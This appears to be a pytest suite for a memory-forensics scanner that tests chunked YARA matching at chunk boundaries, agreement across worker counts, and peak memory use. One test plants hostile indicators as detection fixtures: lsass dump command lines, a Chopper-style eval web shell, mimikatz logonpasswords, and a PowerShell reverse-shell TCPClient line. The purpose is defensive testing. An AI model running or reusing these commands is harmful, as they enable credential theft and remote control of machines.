"""Chunked raw YARA: every match found once at its absolute offset, boundaries included; bounded memory."""

from __future__ import annotations

import json
import random
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yara_x
from memory_support import plant_sparse, wide

from analyzers.memory import rawscan, yararules
from analyzers.memory.rawscan import DEFAULT_CHUNK, DEFAULT_OVERLAP

CANARY_RULES = yara_x.compile(
    """
    rule canary { strings: $a = "TRIAGE_CANARY_0123456789" condition: $a }
    rule wide_cmd { strings: $w = "procdump -ma lsass" wide condition: $w }
    rule regex_span { strings: $r = /BEGIN_[A-Z]{1,64}_END/ condition: $r }
    """
)
CANARY = b"TRIAGE_CANARY_0123456789"


def _whole(data: bytes, rules: yara_x.Rules) -> set[tuple[str, int, int]]:
    """Reference: one scan of all the bytes at once."""
    scanner = yara_x.Scanner(rules)
    out = set()
    for rule in scanner.scan(data).matching_rules:
        for p in rule.patterns:
            for m in p.matches:
                out.add((rule.identifier, m.offset, m.length))
    return out


def _chunked(path: Path, rules: yara_x.Rules, **kw: int) -> list[tuple[str, int, int]]:
    return [(m.rule.rsplit(".", 1)[-1], m.offset, m.length) for m in rawscan.scan_file(path, rules, **kw)]


def test_matches_across_small_chunk_boundaries_are_found_once(tmp_path: Path) -> None:
    chunk, overlap = 4096, 256
    size = 10 * chunk
    plants = {
        0: CANARY,  # first byte of the file
        chunk - 10: CANARY,  # straddles the first boundary
        2 * chunk: CANARY,  # starts exactly on a boundary
        3 * chunk - len(CANARY): CANARY,  # ends exactly on a boundary
        4 * chunk + 5: CANARY,  # inside the overlap the previous chunk also reads
        5 * chunk - 1: CANARY,  # one byte before a boundary
        6 * chunk - 20: wide("procdump -ma lsass"),  # UTF-16 across a boundary
        7 * chunk - 40: b"BEGIN_" + b"X" * 60 + b"_END",  # regex match across a boundary
        size - len(CANARY): CANARY,  # the last bytes of the file
    }
    path = plant_sparse(tmp_path / "small.raw", size, plants)
    found = _chunked(path, CANARY_RULES, chunk_size=chunk, overlap=overlap)
    assert len(found) == len(set(found)), "a match was reported twice"
    assert set(found) == _whole(path.read_bytes(), CANARY_RULES)
    assert {o for r, o, _ in found if r == "canary"} == {o for o, d in plants.items() if d == CANARY}
    assert [o for r, o, _ in found] == sorted(o for r, o, _ in found)  # chunk order is file order


def test_multi_megabyte_image_with_matches_exactly_at_the_default_boundaries(tmp_path: Path) -> None:
    n, b = len(CANARY), DEFAULT_CHUNK
    size = 4 * b + 12345
    offsets = [
        1 * b - n,  # ends exactly on the first boundary
        1 * b + DEFAULT_OVERLAP - n,  # ends exactly where the first chunk's read stops
        2 * b - n + 1,  # crosses the second boundary by one byte
        2 * b + DEFAULT_OVERLAP - 1,  # crosses the end of the second chunk's read
        3 * b,  # starts exactly on the third boundary
        3 * b + DEFAULT_OVERLAP,  # starts just past the third chunk's read
        4 * b - 1,  # crosses into the short last chunk
        size - n,  # the file's last bytes
    ]
    path = plant_sparse(tmp_path / "big.raw", size, dict.fromkeys(offsets, CANARY))
    found = _chunked(path, CANARY_RULES)
    assert [o for _, o, _ in found] == offsets  # each once, in file order, at its absolute offset
    assert all(length == n for _, _, length in found)


@pytest.mark.parametrize("seed", range(12))
def test_random_layouts_agree_with_a_whole_file_scan(tmp_path: Path, seed: int) -> None:
    rnd = random.Random(seed)
    chunk = rnd.choice([512, 1000, 4096, 6000])
    overlap = rnd.choice([128, 200, 512])
    data = bytearray(rnd.randbytes(rnd.randint(chunk, 12 * chunk)))
    for _ in range(rnd.randint(1, 25)):
        piece = rnd.choice([CANARY, wide("procdump -ma lsass"), b"BEGIN_" + b"Q" * rnd.randint(1, 64) + b"_END"])
        at = rnd.randint(0, len(data) - len(piece))
        data[at : at + len(piece)] = piece
    path = tmp_path / "r.raw"
    path.write_bytes(data)
    found = _chunked(path, CANARY_RULES, chunk_size=chunk, overlap=overlap)
    assert len(found) == len(set(found))
    assert set(found) == _whole(bytes(data), CANARY_RULES)


TWO_OF = yara_x.compile(
    'rule two_of { strings: $a = "mimikatz(commandline)" $b = "sekurlsa::logonpasswords" condition: 2 of them }'
)


def test_a_rule_that_fires_only_with_strings_from_both_sides_of_a_boundary(tmp_path: Path) -> None:
    """$b starts after the boundary, so the next chunk owns it, but there the rule cannot fire ($a is behind it):
    the match held back from the previous chunk is reported instead of being lost."""
    chunk, text = 4096, b"mimikatz(commandline) # sekurlsa::logonpasswords"
    at = chunk - 23  # $a before the boundary, $b after it
    path = plant_sparse(tmp_path / "two.raw", 4 * chunk, {at: text})
    found = _chunked(path, TWO_OF, chunk_size=chunk, overlap=256)
    assert found == [("two_of", at, 21), ("two_of", at + 24, 24)]
    assert set(found) == _whole(path.read_bytes(), TWO_OF)


@pytest.mark.parametrize("workers", [2, 3])
def test_workers_give_the_same_output(tmp_path: Path, workers: int) -> None:
    rnd = random.Random(workers)
    data = bytearray(rnd.randbytes(40 * 4096))
    for i in range(1, 40):
        piece = rnd.choice([CANARY, b"mimikatz(commandline) # sekurlsa::logonpasswords"])
        at = i * 4096 - rnd.randint(0, len(piece))
        data[at : at + len(piece)] = piece
    path = tmp_path / "w.raw"
    path.write_bytes(data)
    both = yara_x.compile(
        'rule canary { strings: $a = "TRIAGE_CANARY_0123456789" condition: $a }\n'
        'rule two_of { strings: $a = "mimikatz(commandline)" $b = "sekurlsa::logonpasswords" condition: 2 of them }'
    )
    covered: list[int] = []
    one = _chunked(path, both, chunk_size=4096, overlap=256)
    many = [
        (m.rule.rsplit(".", 1)[-1], m.offset, m.length)
        for m in rawscan.scan_file(path, both, chunk_size=4096, overlap=256, workers=workers, progress=covered.append)
    ]
    assert many == one
    assert sum(covered) == len(data)
    assert set(one) == _whole(bytes(data), both)


def test_zero_chunks_are_skipped_only_when_no_rule_fires_on_zeros(tmp_path: Path) -> None:
    path = plant_sparse(tmp_path / "zeros.raw", 3 * 4096, {})
    assert _chunked(path, CANARY_RULES, chunk_size=4096, overlap=256) == []
    zeros = yara_x.compile("rule zeros { strings: $z = { 00 00 00 00 00 00 00 00 } condition: $z }")
    found = _chunked(path, zeros, chunk_size=4096, overlap=256, max_matches_per_pattern=2)
    assert [o for _, o, _ in found] == [0, 1, 4096, 4097, 8192, 8193]  # every chunk scanned


def test_start_end_and_progress(tmp_path: Path) -> None:
    path = plant_sparse(tmp_path / "p.raw", 100_000, {10: CANARY, 50_000: CANARY, 99_000: CANARY})
    seen: list[int] = []
    found = _chunked(path, CANARY_RULES, chunk_size=8192, overlap=256, start=40_000, end=60_000)
    assert [o for _, o, _ in found] == [50_000]
    list(rawscan.scan_file(path, CANARY_RULES, chunk_size=8192, overlap=256, progress=seen.append))
    assert sum(seen) == 100_000


def test_memory_rules_find_the_planted_indicators(tmp_path: Path) -> None:
    ruleset = yararules.compile_rules(yararules.rule_files())
    assert ruleset.problems == []
    plants = {
        0x1000: wide(r"C:\tools\procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass.dmp"),
        0x3000: wide(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 644 C:\temp\l.dmp full"),
        0x5000: b'<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}',
        0x7000: wide('Set-OabVirtualDirectory -ExternalUrl \'http://f/<script language="JScript" runat="server">'),
        0x9000: b"mimikatz(commandline) # sekurlsa::logonpasswords",
        0xB000: wide(r"C:\ProgramData\7z.exe a -tzip C:\ProgramData\pst.zip C:\ProgramData\pst"),
        0xD000: b"$client = New-Object System.Net.Sockets.TCPClient('10.9.8.7',443)",
    }
    path = plant_sparse(tmp_path / "ioc.raw", 1 << 20, plants)
    hits = {m.rule.rsplit(".", 1)[-1] for m in rawscan.scan_file(path, ruleset.rules)}
    assert {
        "TRIAGE_MEM_Lsass_Dump_CommandLine",
        "TRIAGE_MEM_WebShell_Chopper_Eval",
        "TRIAGE_MEM_OAB_ExternalUrl_Script",
        "TRIAGE_MEM_Mimikatz_Strings",
        "TRIAGE_MEM_Archive_Staging_ProgramData",
        "TRIAGE_MEM_PowerShell_Reverse_Shell",
    } <= hits
    benign = plant_sparse(
        tmp_path / "benign.raw",
        1 << 20,
        {
            0x1000: wide(r"C:\Windows\system32\svchost.exe -k netsvcs -p"),
            0x3000: wide("procdump -ma w3wp.exe C:\\dumps\\w3wp.dmp"),
            0x5000: b"Request.Form and eval are both words in this sentence",
        },
    )
    assert not {m.rule for m in rawscan.scan_file(benign, ruleset.rules)}


def test_a_broken_rule_file_is_reported_and_the_others_load(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yar"
    bad.write_text('rule ok_one { condition: true }\n\nrule broken { strings: $a = "x" condition: $b }\n')
    ruleset = yararules.compile_rules([*yararules.rule_files(), bad])
    assert len(ruleset.problems) == 1
    assert ruleset.problems[0].startswith(f"{bad}:3:")
    assert "TRIAGE_MEM_Mimikatz_Strings" in {k.rsplit(".", 1)[-1] for k in ruleset.meta}
    assert not any(k.endswith("ok_one") for k in ruleset.meta)  # the whole file is left out, not half of it


PEAK_SCRIPT = textwrap.dedent(
    """
    import importlib.util, json, re, sys
    import yara_x
    # rawscan alone (stdlib only at import): the triage package would pull in pandas and slow the test
    spec = importlib.util.spec_from_file_location("rawscan", sys.argv[2])
    rawscan = sys.modules["rawscan"] = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(rawscan)
    rules = yara_x.compile('rule c { strings: $a = "TRIAGE_CANARY_0123456789" condition: $a }')
    n = sum(1 for _ in rawscan.scan_file(sys.argv[1], rules))
    # VmHWM: ru_maxrss would carry the forking pytest's peak across exec and hide any growth
    hwm = int(re.search(r"VmHWM:\\s+(\\d+)", open("/proc/self/status").read()).group(1))
    print(json.dumps({"matches": n, "maxrss_kb": hwm}))
    """
)


def test_peak_memory_does_not_grow_with_the_image(tmp_path: Path) -> None:
    peaks = {}
    for mib in (32, 192):
        path = plant_sparse(tmp_path / f"{mib}.raw", mib << 20, {(mib << 20) - 4096: CANARY})
        out = subprocess.run(
            [sys.executable, "-c", PEAK_SCRIPT, str(path), rawscan.__file__],
            capture_output=True,
            text=True,
            check=True,
            timeout=120,
        )
        res = json.loads(out.stdout)
        assert res["matches"] == 1
        peaks[mib] = res["maxrss_kb"]
    # 6x the data, less growth than one extra chunk buffer would cause
    assert peaks[192] - peaks[32] < 16 * 1024, peaks
